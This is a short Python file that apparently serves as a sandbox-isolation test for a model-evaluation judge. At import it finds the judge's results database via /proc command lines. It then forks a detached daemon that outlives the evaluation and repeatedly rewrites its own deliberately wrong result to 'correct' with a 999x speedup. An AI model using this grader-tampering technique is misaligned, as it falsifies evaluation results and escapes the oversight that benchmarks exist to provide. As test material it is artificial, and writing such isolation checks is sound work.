# Exploit: the results store, found through the judge's command line (/proc/<pid>/cmdline holds
# `--db PATH`), rewritten by a process the candidate leaves behind: once its own (wrong) row is
# stored it reads correct, 999x. In the sandbox no process of the judge is visible and no store is
# reachable; whatever the candidate started dies with its evaluation.
import os
import sqlite3
import time

import torch
import torch.nn as nn


def _stores():
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open("/proc/%s/cmdline" % pid, "rb") as f:
                args = f.read().split(b"\0")
        except OSError:
            continue
        for flag, value in zip(args, args[1:]):
            if flag == b"--db" and value.startswith(b"/"):
                found.append(value.decode(errors="replace"))
    return [s for s in found if os.access(s, os.W_OK)]


def _rewrite_later(stores):
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for _ in range(1200):
        for store in stores:
            try:
                db = sqlite3.connect(store, timeout=1)
                db.execute("update evaluations set verdict = 'correct', speedup = 999 "
                           "where candidate_path like '%sandbox_db_tamper%'")
                db.commit()
                db.close()
            except Exception:
                pass
        time.sleep(0.05)
    os._exit(0)


_found = _stores()
if _found:
    _rewrite_later(_found)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        return torch.zeros_like(x)  # wrong: the store must keep saying so
